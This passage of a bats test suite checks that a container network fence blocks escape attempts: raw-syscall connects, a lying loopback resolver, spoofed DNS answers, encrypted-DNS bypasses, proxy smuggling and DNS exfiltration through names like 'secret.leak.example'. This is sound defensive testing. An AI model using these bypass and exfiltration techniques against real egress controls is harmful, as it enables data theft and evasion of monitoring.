	matrix_close detach "EPERM or nothing there" "attached with BPF_F_ALLOW_MULTI"
}

@test "the first instruction of the payload is a connect: it is judged" {
	begin
	local runtime round
	matrix_open startup-race
	policy nets <<<'block 198.51.100.0/24'
	cat >"$DF_HOST/first.c" <<-'C'
		#include <netinet/in.h>
		#include <sys/syscall.h>
		static long call(long n, long a, long b, long c)
		{
		#ifdef __x86_64__
			long r;
			__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
			return r;
		#else
			register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
			__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
			return x0;
		#endif
		}
		__attribute__((force_align_arg_pointer)) void _start(void)
		{
			struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = __builtin_bswap16(9999),
						 .sin_addr.s_addr = __builtin_bswap32(TO)};
			long r = call(SYS_connect, call(SYS_socket, AF_INET, SOCK_STREAM, 0), (long)&to, sizeof(to));
			call(SYS_exit_group, r < 0 ? -r : 0, 0, 0);
		}
	C
	gcc -O1 -nostdlib -static -Wno-attributes -DTO=0xc6336409 -o "$DF_HOST/bin/first-blocked" "$DF_HOST/first.c"
	gcc -O1 -nostdlib -static -Wno-attributes -DTO=0xcb00710a -o "$DF_HOST/bin/first-allowed" "$DF_HOST/first.c"
	world_mark
	for runtime in podman+crun podman+runc crun; do
		for round in 1 2 3; do
			echo "$runtime $round"
			job -r "$runtime" -v "$DF_HOST/bin/first-blocked:/first:ro" -a deployfence.policy=nets -- /first
			expect [ "$status" = 1 ] # EPERM
		done
	done
	expect_no_packet 198.51.100.9
	job -v "$DF_HOST/bin/first-allowed:/first:ro" -a deployfence.policy=nets -- /first
	expect [ "$status" = 0 ]
	expect_packet 203.0.113.10
	matrix_close startup-race "EPERM, no packet" "attached before the payload runs"
}

# --- names

@test "raw IP, /etc/hosts and an address from elsewhere: a blocked name's address is refused" {
	begin
	matrix raw-ip FAILED -
	policy_pinned names
	start_pinned 140.82.112.3 -a deployfence.policy=names -o --add-host=github.com:140.82.112.3 -o --add-host=ok.example:203.0.113.10
	job_exec "$JOB" sh -c 'for url in http://140.82.112.3 http://github.com http://ok.example \
		"--resolve any.example:80:140.82.112.3 http://any.example" "--connect-to ::140.82.112.3: http://203.0.113.10"
		do curl -sS -m 10 $url; echo "$url rc=$?"; done'
	expect_match "$output" 'http://140\.82\.112\.3 rc=7'
	expect_match "$output" 'http://github\.com rc=7'
	expect_match "$output" 'any\.example rc=7'
	expect_match "$output" 'http://203\.0\.113\.10 rc=7'
	expect_match "$output" 'http://ok\.example rc=0'
	expect_no_packet 140.82.112.3
	expect_packet 203.0.113.10
	sed -i '$d' "$R/matrix"
	matrix raw-ip "EPERM, no packet" "connect (pin-blocked)"
}

# Blocks github.com and looks its addresses up.
policy_pinned() { # NAME [STATEMENT]…
	local name=$1
	shift
	printf '%s\n' "$@" 'block github.com' | policy "$name"
}

@test "raw-ip block: an address that no answer named is refused" {
	begin
	matrix raw-ip-block FAILED -
	policy_pinned names 'raw-ip block' 'pin-blocked no'
	tried -a deployfence.policy=names -- sh -c 'curl -sS -m 10 http://203.0.113.11; echo "raw rc=$?"
		curl -sS -m 10 http://ok.example; echo "name rc=$?"; curl -sS -m 10 http://203.0.113.10; echo "learned rc=$?"'
	expect_match "$output" 'raw rc=7'
	expect_match "$output" 'name rc=0'
	expect_match "$output" 'learned rc=0'
	expect_no_packet 203.0.113.11
	sed -i '$d' "$R/matrix"
	matrix raw-ip-block "EPERM, no packet" connect
}

@test "DNS over TCP, another resolver, a resolver on loopback: the question is judged all the same" {
	begin
	matrix other-resolver FAILED -
	policy_pinned names
	start_pinned 140.82.112.3 -a deployfence.policy=names
	job_exec "$JOB" sh -c 'for how in "@10.89.53.2" "+tcp" "+tcp @203.0.113.77" "@203.0.113.77" "@fd00:53::1" "+tcp @2001:db8::53"
		do echo "$how: $(dig +tries=1 +time=3 +short $how github.com | grep -v "^;") $(dig +tries=1 +time=3 +short $how ok.example | grep -v "^;")"; done'
	expect [ "$(grep -c ':  203\.0\.113\.10$' <<<"$output")" = 6 ]
	run near_packets '676974687562' # "github" in a packet
	expect [ "$output" = "" ]
	sed -i '$d' "$R/matrix"
	matrix other-resolver "NXDOMAIN, no packet with the name" "redirect of port 53"
}

@test "DNS over HTTPS in blocklist mode: what it answers is refused at connect" {
	begin
	matrix doh FAILED -
	policy_pinned names
	start_pinned 140.82.112.3 -a deployfence.policy=names
	job_exec "$JOB" sh -c 'for url in http://github.com http://ok.example; do
		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://other.example/dns-query $url; echo "$url rc=$?"; done'
	expect_match "$output" 'http://github\.com rc=7'
	expect_match "$output" 'http://ok\.example rc=0'
	expect_no_packet 140.82.112.3
	expect_packet 203.0.113.10
	world_web_log ' DOH '
	sed -i '$d' "$R/matrix"
	matrix doh "EPERM at what it answers" "connect (pin-blocked)"
}

@test "default deny: DNS over HTTPS and TLS, a resolver on an odd port, no packet" {
	begin
	matrix doh-deny FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
	tried -a deployfence.policy=deny -- sh -c '
		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://other.example/dns-query http://github.com; echo "doh name rc=$?"
		curl -sS -m 10 --cacert /etc/ca.pem --doh-url https://203.0.113.11/dns-query http://github.com; echo "doh address rc=$?"
		python3 /escape.py at 203.0.113.11 tcp udp-sendto; dig +tries=1 +time=1 -p 853 +tcp @203.0.113.11 github.com; echo "odd rc=$?"
		dig +tries=1 +time=1 -p 5353 @203.0.113.11 github.com; echo "odd rc=$?"
		curl -sS -m 10 http://ok.example; echo "ok rc=$?"'
	expect_match "$output" 'doh name rc=6'
	expect_match "$output" 'doh address rc=(6|7)'
	expect [ "$(grep -c 'odd rc=0' <<<"$output")" = 0 ]
	expect_match "$output" 'ok rc=0'
	expect_no_packet 203.0.113.11
	expect_packet 203.0.113.10
	sed -i '$d' "$R/matrix"
	matrix doh-deny "EPERM, no packet" "names and connect"
}

@test "a name that reverse DNS claims for an address opens nothing" {
	begin
	matrix_open reverse-dns
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' 'allow 113.0.203.in-addr.arpa' | policy deny
	world_mark
	tried -a deployfence.policy=deny -- sh -c 'dig +short +tries=1 -x 203.0.113.10; python3 /escape.py at 203.0.113.10 tcp udp-sendto
		dig +short +tries=1 ok.example; python3 /escape.py at 203.0.113.10 tcp'
	expect_match "$output" '(^|'$'\n'')ok\.example\.'
	expect [ "$(grep -c $'203.0.113.10\tEPERM' <<<"$output")" = 2 ]
	expect [ "$(grep -c $'203.0.113.10\tok' <<<"$output")" = 1 ]
	expect_packet 203.0.113.10
	matrix_close reverse-dns "EPERM, no packet" "only A and AAAA teach"
}

@test "a resolver of one's own on loopback: what it says is not asked for, and teaches nothing" {
	begin
	matrix_open own-resolver
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
	printf '%s\n' 'raw-ip block' 'pin-blocked no' 'block github.com' | policy raw
	local name liar='
import socket, sys, threading, time
def lie(sock):
    while True:
        data, who = sock.recvfrom(4096)
        print("asked", flush=True)
        end = data.index(b"\0", 12) + 5
        sock.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + data[12:end] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4"
                    + socket.inet_aton("198.51.100.9"), who)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("127.0.0.1", 53))
threading.Thread(target=lie, args=(sock,), daemon=True).start()
time.sleep(1000)'
	for name in deny raw; do
		job_start "${PROBES[@]}" -a "deployfence.policy=$name" -- python3 -c "$liar"
		world_mark
		job_exec "$JOB" sh -c 'dig +short +tries=1 +time=2 @127.0.0.1 ok.example; python3 /escape.py at 198.51.100.9 tcp udp-sendto
			dig +short @10.89.53.1 ok.example; python3 /escape.py at 203.0.113.10 tcp'
		expect [ "$(grep -c $'198.51.100.9\tEPERM' <<<"$output")" = 2 ]
		expect_match "$output" $'203.0.113.10\tok'
		expect_no_packet 198.51.100.9
		if [ $name = deny ]; then
			refute_match "$output" '(^|'$'\n'')198\.51\.100\.9('$'\n''|$)' # the trusted one answers in its place
			refute_match "$(job_logs "$JOB")" '(^|'$'\n'')asked'
		fi
		job_stop "$JOB"
	done
	matrix_close own-resolver "EPERM, no packet" "only trusted resolvers teach"
}

@test "DNS over QUIC, and TLS: port 853 of any address is refused where the list of encrypted resolvers is in use" {
	begin
	local name
	matrix_open doq
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow 0.0.0.0/0:9999' 'allow ok.example' | policy deny
	printf '%s\n' 'encrypted-dns block' 'pin-blocked no' 'block github.com' | policy list
	local probe='
import errno, socket
for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
    sock = socket.socket(socket.AF_INET, kind)
    sock.settimeout(5)
    try:
        sock.connect(("203.0.113.11", 853))
        sock.send(b"\xc0\0\0\0\1")
        print("sent")
    except OSError as error:
        print(errno.errorcode[error.errno])'
	tried -- python3 -c "$probe"
	expect [ "$output" = $'sent\nsent' ]
	expect_packet 203.0.113.11
	for name in deny list; do
		world_mark
		tried -a "deployfence.policy=$name" -- sh -c 'python3 -c "$1"; python3 /escape.py at 203.0.113.10 udp-sendto tcp' sh "$probe"
		expect_match "$output" $'^EPERM\nEPERM\n'
		expect [ "$(grep -c $'\tok$' <<<"$output")" = 2 ]
		expect_no_packet 203.0.113.11
		expect_event '.ip == "203.0.113.11" and .port == 853 and (.rule | test("^encrypted-dns\\.policy:[0-9]+ block 0\\.0\\.0\\.0/0:853$"))'
	done
	matrix_close doq "EPERM, no packet" "list of encrypted resolvers"
}

@test "default deny: names that carry data reach no resolver" {
	begin
	matrix dns-exfiltration FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
	tried -a deployfence.policy=deny -- sh -c 'for i in 1 2 3 4 5; do
		getent hosts secret$i.leak.example; dig +tries=1 +short secret$i.leak.example TXT; dig +tries=1 +tcp secret$i.leak.example
		dig +tries=1 @203.0.113.77 secret$i.leak.example; mclient-musl secret$i.leak.example; done
		dig +short ok.example'
	expect_match "$output" '203\.0\.113\.10$'
	run near_packets "$(printf leak | od -An -tx1 | tr -d ' \n')"
	expect [ "$output" = "" ]
	refute world_dns_log leak
	world_dns_log ' ok\.example '
	sed -i '$d' "$R/matrix"
	matrix dns-exfiltration "NXDOMAIN, no packet" "names"
}

# What passes as octets is judged by the names in it all the same.
@test "updates, NOTIFY, other classes and signed queries: refused names get nowhere, neither asked for nor in an answer" {
	local ask='
import sys
sys.argv = ["odd.py", "none"]
exec(open("/odd.py").read())
update = struct.pack("!6H", ID, 0x2800, 1, 0, 1, 0) + name("ok.example") + b"\0\6\0\1"
for leaf in sys.stdin.read().split():
    for label, asked in (("notify", query(leaf, SOA, flags=0x2400)), ("zone", query(leaf, SOA, flags=0x2800)),
            ("owner", update + name(leaf) + b"\0\1\0\1\0\0\0\x3c\0\4" + bytes(4)), ("chaos", query(leaf, TXT, qclass=3)),
            ("any", query(leaf, A, qclass=255)), ("signed", query(leaf, A, SIGNATURE)),
            ("edns-1", query(leaf, A, b"\0" + struct.pack("!HHIH", 41, 1232, 1 << 16, 0)))):
        show(leaf + " " + label, udp, asked)
        show(leaf + " " + label, tcp, asked)'
	local odd=(-v "$E2E/odd.py:/odd.py:ro")
	begin
	matrix dns-octets FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
	policy list <<<$'pin-blocked no\nblock github.com'
	tried "${odd[@]}" -- sh -c "echo secret.leak.example ok.example alias.example | python3 -c '$ask'"
	expect [ "$(world_dns_log ' secret\.leak\.example ' | wc -l)" -ge 10 ] # without a fence
	expect_match "$output" '140|8c5270' # and the alias leads to the address of what is blocked
	world_mark
	tried "${odd[@]}" -a deployfence.policy=deny -- sh -c "echo secret.leak.example ok.example | python3 -c '$ask'"
	refute world_dns_log leak
	expect [ "$(world_dns_log ' ok\.example ' | wc -l)" -ge 10 ]
	expect_match "$output" $'ok\\.example signed udp fast 8580'
	tried "${odd[@]}" -a deployfence.policy=list -- sh -c "echo github.com alias.example ok.example | python3 -c '$ask'"
	refute_match "$output" '8c5270'
	refute world_dns_log ' github\.com '
	expect_match "$output" $'ok\\.example signed tcp fast 47118580'
	sed -i '$d' "$R/matrix"
	matrix dns-octets "REFUSED, no packet" "names"
}

@test "an HTTP proxy: CONNECT and absolute-form targets of blocked names end at once and never leave" {
	begin
	matrix http-proxy FAILED -
	policy_pinned names
	start_pinned 140.82.112.3 -a deployfence.policy=names -e no_proxy=
	job_exec "$JOB" sh -c 'for options in "http://HOST" "-p http://HOST:9999" "https://HOST --cacert /etc/ca.pem"; do
		for host in github.com ok.example; do
			curl -sS -m 10 -x http://203.0.113.5:3128 $(echo "$options" | sed "s/HOST/$host/"); echo "$host rc=$?"; done; done'
	expect [ "$(grep -c 'github.com rc=56' <<<"$output")" = 3 ]
	expect_match "$output" 'ok\.example rc=0.*ok\.example rc=[0-9]+.*ok\.example rc=0'
	run near_packets '676974687562'
	expect [ "$output" = "" ]
	expect_packet 203.0.113.5
	expect_event '.event == "proxy_blocked" and .domain == "github.com."'
	sed -i '$d' "$R/matrix"
	matrix http-proxy "reset, no packet with the name" "payload"
}

@test "an HTTP proxy: a second request of a connection, several in one segment, a name in pieces" {
	begin
	matrix http-proxy-later FAILED -
	policy_pinned names
	start_pinned 140.82.112.3 -a deployfence.policy=names
	job_exec "$JOB" sh -c '
		curl -sS -m 10 -x http://203.0.113.5:3128 http://ok.example http://github.com; echo "second rc=$?"
		python3 /escape.py pieces 203.0.113.5 3128 "GET http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\nGET http://github.com/ HTTP/1.1\r\nHost: github.com\r\n\r\n"
		python3 /escape.py pieces 203.0.113.5 3128 "GET http://git" "hub.com/ HTTP/1.1\r\nHost: x\r\n\r\n"
		python3 /escape.py pieces 203.0.113.5 3128 "GET http://ok" ".example/ HTTP/1.1\r\nHost: x\r\n\r\n"'
	expect_match "$output" 'hello from ok\.example.*second rc=(52|56)'
	expect_match "$output" $'(ECONNABORTED|ECONNRESET|closed)\npieces (ECONNABORTED|ECONNRESET|closed)\npieces HTTP/1\\.1 200 OK$'
	run near_packets '676974687562|68756220636f6d|6875622e636f6d' # github, hub.com
	expect [ "$output" = "" ]
	sed -i '$d' "$R/matrix"
	matrix http-proxy-later "reset, no packet with the name" "payload"
}

@test "an HTTP proxy, and a client that hides from the fence what it asks for: open with default allow, closed by default deny" {
	begin
	matrix http-proxy-hidden FAILED -
	policy_pinned names
	printf '%s\n' 'default deny' 'on-leak all warn' 'allow ok.example' | policy deny
	local hide='python3 /escape.py pieces 203.0.113.5 3128 "BREW http://github.com/ HTTP/1.1\r\nHost: x\r\n\r\n"'
	tried -a deployfence.policy=names -- sh -c "$hide"
	expect_match "$output" '^pieces HTTP/1'
	near_packets '4252455720687474703a2f2f676974687562' >/dev/null # BREW http://github
	tried -a deployfence.policy=deny -- sh -c "$hide"
	expect [ "$output" = 'pieces EPERM' ]
	grep -q 'hostile program can hide' "$E2E/../../README.md"
	sed -i '$d' "$R/matrix"
	matrix http-proxy-hidden "EPERM under default deny, else open" "connect under default deny"
}

# --- being the resolver; 31-resolvers.bats has more

@test "a payload that answers the proxy in an IPv6 resolver's name: not believed" {
	begin
	matrix forged-answer FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'pin-blocked no' 'allow ok.example' 'allow fd00::/8' | policy deny
	tried -d fd00:53::1 -a deployfence.policy=deny -- sh -c 'spoof fd00:53::1 ok.example 198.51.100.9 10
		python3 /escape.py at 198.51.100.9 tcp; getent ahosts ok.example >/dev/null; python3 /escape.py at 203.0.113.10 tcp'
	expect_match "$output" 'accepted=0 answered=[1-9][0-9]* sent=[1-9]'
	expect_match "$output" $'198.51.100.9\tEPERM'
	expect_match "$output" $'203.0.113.10\tok'
	expect_no_packet 198.51.100.9
	expect_event '.event == "forged_answers"'
	sed -i '$d' "$R/matrix"
	matrix forged-answer "dropped, no packet" "the proxy's cgroup, ingress"
}

@test "a resolver that the container is itself, by an address of its own: not asked" {
	begin
	matrix own-resolver FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'pin-blocked no' 'allow ok.example' | policy deny
	tried -a deployfence.policy=deny -v "$E2E/liar.py:/liar.py:ro" -- sh -c '
		python3 /liar.py 198.51.100.9 & sleep 1; own=$(hostname -i | cut -d " " -f 1)
		for address in $own 0.0.0.0 127.0.0.1; do mclient -u4 $address ok.example; mclient -t4 $address ok.example; done
		kill $!; python3 /escape.py at 198.51.100.9 tcp; python3 /escape.py at 203.0.113.10 tcp'
	refute_match "$output" 'address=198\.51\.100\.9'
	expect_match "$output" 'address=203\.0\.113\.10'
	expect_match "$output" $'198.51.100.9\tEPERM'
	expect_match "$output" $'203.0.113.10\tok'
	expect_no_packet 198.51.100.9
	sed -i '$d' "$R/matrix"
	matrix own-resolver "another is asked, no packet" "dns"
}

# --- around the hook

@test "a kill switch that a runtime has made, and a start that looks like an end" {
	begin
	local state
	matrix switch-by-runtime FAILED -
	matrix restore FAILED -
	# crun makes the file before the hook runs; the next container starts as if somebody had switched the host off
	job -r podman+crun -a deployfence=on -a run.oci.hooks.stderr=/etc/deployfence/disabled -- sh -c "$VISIT"
	expect [ -e /etc/deployfence/disabled ]
	expect_fenced
	expect_event '.event == "finding" and .finding == "runtime-annotation"'
	job -a deployfence=on -- sh -c "$VISIT"
	expect_fenced
	echo 'reason x' >/etc/deployfence/disabled # the twin: somebody has
	job -a deployfence=on -- sh -c "$VISIT"
	expect_unfenced
	rm /etc/deployfence/disabled
	# as runc restore calls it: status "stopped", and the pid of the new init
	job_start -r crun -- sleep 1000
	state=$(jq -nc --arg id "$JOB" --argjson pid "$(job_pid "$JOB")" --arg bundle "$DF_HOST/jobs/$JOB" \
		'{ociVersion: "1.0.2", id: $id, status: "stopped", pid: $pid, bundle: $bundle, annotations: {deployfence: "on"}}')
	job_exec "$JOB" sh -c "$VISIT" # the twin: without the hook
	expect_unfenced
	"$HOOK" <<<"$state"
	job_exec "$JOB" sh -c "$VISIT"
	expect_fenced
	sed -i '$d' "$R/matrix"
	sed -i '$d' "$R/matrix"
	matrix switch-by-runtime "fenced" "only its own lines count"
	matrix restore "fenced" "the process tells, not the status"
}

# --- what becomes of a fence under load, or without its proxy

@test "the proxy killed: refused stays refused, nothing is resolved, allowed addresses go on" {
	begin
	local pid
	matrix proxy-killed FAILED -
	policy_pinned names 'block 198.51.100.0/24'
	start_pinned 140.82.112.3 -a deployfence.policy=names
	job_exec "$JOB" curl -sS http://ok.example
	fence_processes | while read -r pid _; do kill -9 "$pid" 2>/dev/null || true; done # a worker ends with its monitor
	eventually is_fence_gone >/dev/null
	world_mark
	job_exec "$JOB" sh -c 'python3 /escape.py at 140.82.112.3 tcp udp-sendto; python3 /escape.py at 198.51.100.9 tcp
		python3 /escape.py at 203.0.113.10 tcp; dig +tries=1 +time=1 github.com; dig +tries=1 +time=1 ok.example'
	expect [ "$(grep -c EPERM <<<"$output")" = 3 ]
	expect_match "$output" $'203.0.113.10\tok'
	expect_no_packet 140.82.112.3 198.51.100.9
	expect [ "$(near_packets '#53 ')" = "" ]
	sed -i '$d' "$R/matrix"
	matrix proxy-killed "EPERM, no packet" "programs stay"
}

@test "more addresses than the map holds: none is allowed by that, and none that is refused gets free" {
	begin
	matrix map-flood FAILED -
	printf '%s\n' 'default deny' 'on-leak all warn' 'pin-blocked yes' 'allow flood.example' 'allow ok.example' \
		'allow other.example' 'block github.com' | policy deny
	start_pinned 140.82.112.3 -a deployfence.policy=deny
	job_exec "$JOB" getent ahostsv4 ok.example # known before
	# by TCP: the answers are longer than the fence has resolvers send by UDP, and would come cut, without an address
	job_exec "$JOB" python3 -c '
import socket, struct
sock = socket.create_connection(("10.89.53.1", 53), 5)
answers = sock.makefile("rb")
for i in range(200):
    name = bytes([4]) + b"f%03d" % i + b"\5flood\7example\0"
    query = struct.pack("!6H", i, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    sock.sendall(struct.pack("!H", len(query)) + query)
    assert len(answers.read(struct.unpack("!H", answers.read(2))[0])) > 1600
print("flooded")'
	expect [ "$output" = flooded ]
	expect_event '.event == "table_full"'
	world_mark
	job_exec "$JOB" sh -c 'python3 /escape.py at 140.82.112.3 tcp udp-sendto; python3 /escape.py at 198.51.100.9 tcp
		getent ahostsv4 other.example >/dev/null; python3 /escape.py at 203.0.113.11 tcp
		python3 /escape.py at 203.0.113.10 tcp udp-sendto'
	expect [ "$(grep -c $'140.82.112.3\tEPERM' <<<"$output")" = 2 ]
	expect_match "$output" $'198.51.100.9\tEPERM'
	expect_match "$output" $'203.0.113.11\tEPERM' # allowed, but there was no room for it
	expect [ "$(grep -c $'203.0.113.10\tok' <<<"$output")" = 2 ] # the twin
	expect_no_packet 140.82.112.3 198.51.100.9 203.0.113.11
	expect_packet 203.0.113.10
	sed -i '$d' "$R/matrix"
	matrix map-flood "EPERM, no packet" "refuses what finds no room"
}
